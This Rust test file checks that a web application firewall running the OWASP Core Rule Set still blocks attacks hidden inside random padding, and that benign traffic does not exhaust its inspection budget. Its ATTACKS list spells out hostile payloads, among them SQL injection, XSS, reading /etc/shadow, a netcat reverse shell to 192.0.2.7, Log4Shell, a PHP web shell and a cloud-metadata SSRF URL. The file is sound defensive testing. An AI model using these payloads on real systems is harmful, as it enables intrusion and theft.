//! Three promises under padding that keeps patterns busy: no benign request spends its budget, nearly every hostile one is still
//! inspected to its end, and no attack passes because of what stands around it.

use crate::attempt::{FORM, post};
use crate::chance::Chance;
use crate::padding::{Shape, Source, form_value, sources};
use crate::rulesets::{CRS, CRS4, Target, full};
use crate::table::say;
use crate::traffic;
use fusewall::Reason;
use std::sync::LazyLock;

/// Attacks of many classes that CRS refuses at level 1, wherever in a value they stand.
const ATTACKS: &[&str] = &[
    "1' UNION ALL SELECT username, password FROM users-- -",
    "1;DROP TABLE accounts;exec xp_cmdshell('dir')",
    "' or 1=1 union select 1,table_name from information_schema.tables--",
    "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)",
    "1'; WAITFOR DELAY '0:0:5'--",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
    "; cat /etc/passwd",
    "$(cat /etc/passwd)",
    "`/bin/cat /etc/shadow`",
    "| nc -e /bin/sh 192.0.2.7 4444",
    "() { :; }; /bin/bash -c 'id'",
    "<?php system($_GET['c']); ?>",
    "php://input",
    "${jndi:ldap://192.0.2.7/a}",
    "java.lang.Runtime.getRuntime().exec('id')",
    "#{7*7}${{7*7}} T(java.lang.Runtime).getRuntime()",
    "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
    "require('child_process').exec('id')",
    "http://169.254.169.254/latest/meta-data/",
];

/// Where padding stands.
#[derive(Debug, Clone, Copy)]
enum Around {
    Before,
    Behind,
    Both,
}

/// What was counted.
#[derive(Debug, Default)]
pub struct Counts {
    pub benign: usize,
    pub benign_exhausted: usize,
    pub hostile: usize,
    pub hostile_whole: usize,
    pub hidden: usize,
    pub hidden_refused: usize,
    pub hidden_exhausted: usize,
    failures: Vec<String>,
}

/// The counts of this run; none without CRS.
pub static COUNTS: LazyLock<Option<Counts>> = LazyLock::new(|| {
    let (Some(one), Some(four)) = (&*CRS, &*CRS4) else { return None };
    let mut counts = Counts::default();
    benign(four, &mut counts);
    hostile(four, &mut counts);
    hidden(one, &mut counts);
    Some(counts)
});

/// Every recorded benign request, bodies of a megabyte included, or a sample of them.
fn benign(target: &Target, counts: &mut Counts) {
    let classes = ["small", "form", "json", "multipart"].map(|class| (format!("bench/benign-{class}"), 4));
    let long = [("bench/long64".to_owned(), 1), ("bench/long-benign".to_owned(), 3), ("benign".to_owned(), 151)];
    for (name, step) in classes.into_iter().chain(long) {
        for request in traffic::sampled(&name, if full() { 1 } else { step }).into_iter().flatten() {
            let verdict = request.evaluate(&target.waf).verdict().expect("the engine does not fail");
            counts.benign += 1;
            if verdict.exhausted.is_some() {
                counts.benign_exhausted += 1;
                counts.failures.push(format!("{name} {}: {:?}", request.id, verdict.exhausted));
            }
        }
    }
}

/// Every pattern in every shape, or a sample: whether the rules came to the end of it.
fn hostile(target: &Target, counts: &mut Counts) {
    let loaded = target.waf.loaded();
    let sources = sources(loaded.program());
    assert!(sources.len() > 250, "{} patterns", sources.len());
    let cases = cases(&sources);
    let step = if full() { 1 } else { 7 };
    for (at, (source, shape)) in cases.iter().enumerate().step_by(step) {
        let sizes: &[usize] = if full() { &[1 << 10, 16 << 10, 128 << 10] } else { &[1 << 10, 16 << 10] };
        for &size in sizes {
            let body = [b"x=", form_value(&source.text(*shape, size, at as u64)).as_slice()].concat();
            let verdict = post(FORM, body).evaluate(&target.waf).verdict().expect("the engine does not fail");
            counts.hostile += 1;
            counts.hostile_whole += usize::from(verdict.exhausted.is_none() && verdict.uninspected.is_empty());
        }
    }
}

fn cases(sources: &[Source]) -> Vec<(&Source, Shape)> {
    sources.iter().flat_map(|source| Shape::ALL.map(|shape| (source, shape))).collect()
}

/// Each attack in padding of chance that passes by itself: many times, at each of the three places.
fn hidden(target: &Target, counts: &mut Counts) {
    let loaded = target.waf.loaded();
    let sources = sources(loaded.program());
    let cases = cases(&sources);
    let refusal = |value: &[u8]| {
        let body = [b"x=", form_value(value).as_slice()].concat();
        let transaction = post(FORM, body).evaluate(&target.waf);
        (transaction.interruption(), transaction)
    };
    let mut chance = Chance::new(crate::padding::SEED);
    let rounds = if full() { 40 } else { 5 };
    for attack in ATTACKS {
        assert!(refusal(attack.as_bytes()).0.is_some(), "{attack} alone passes");
        for _ in 0..rounds {
            let (padding, shape) = loop {
                let at = chance.below(cases.len());
                let (source, shape) = cases[at];
                let sizes: &[usize] = if full() { &[64, 1 << 10, 16 << 10, 60 << 10] } else { &[64, 512, 4 << 10] };
                let padding = source.text(shape, *chance.pick(sizes), at as u64);
                if refusal(&padding).0.is_none() {
                    break (padding, shape);
                }
            };
            let size = padding.len();
            for around in [Around::Before, Around::Behind, Around::Both] {
                let (before, behind): (&[u8], &[u8]) = match around {
                    Around::Before => (&padding, b""),
                    Around::Behind => (b"", &padding),
                    Around::Both => padding.split_at(size / 2),
                };
                let value = [before, b" ", attack.as_bytes(), b" ", behind].concat();
                let (interruption, transaction) = refusal(&value);
                counts.hidden += 1;
                match interruption.map(|interruption| interruption.reason) {
                    Some(Reason::Budget(_)) => counts.hidden_exhausted += 1,
                    Some(_) => counts.hidden_refused += 1,
                    None => {
                        let shown = value.escape_ascii().to_string();
                        let shown: String = shown.chars().take(300).collect();
                        let found: Vec<_> = transaction.records().iter().map(|record| record.rule.0).collect();
                        let what = format!("{attack} passes, {around:?} {size} bytes of {shape:?}: {found:?} {shown}");
                        counts.failures.push(what);
                    }
                }
            }
        }
    }
}

#[test]
fn padding_hides_nothing_and_trips_nothing() {
    let Some(counts) = &*COUNTS else { return };
    let Counts { benign, benign_exhausted, hostile, hostile_whole, hidden, hidden_refused, hidden_exhausted, failures } =
        counts;
    say(&format!(
        "{benign} benign requests, {benign_exhausted} spend their budget; {hostile_whole} of {hostile} hostile ones inspected to their end; {hidden} hidden attacks, \
         {hidden_refused} refused by rules, {hidden_exhausted} for a spent budget"
    ));
    assert!(*benign_exhausted == 0, "{} failures:\n{}", failures.len(), failures.join("\n"));
    let passed = hidden - hidden_refused - hidden_exhausted;
    assert!(passed == 0, "{passed} attacks pass:\n{}", failures[..failures.len().min(30)].join("\n"));
    assert!(hostile_whole * 10 >= hostile * 9, "{hostile_whole} of {hostile} inspected to their end");
}
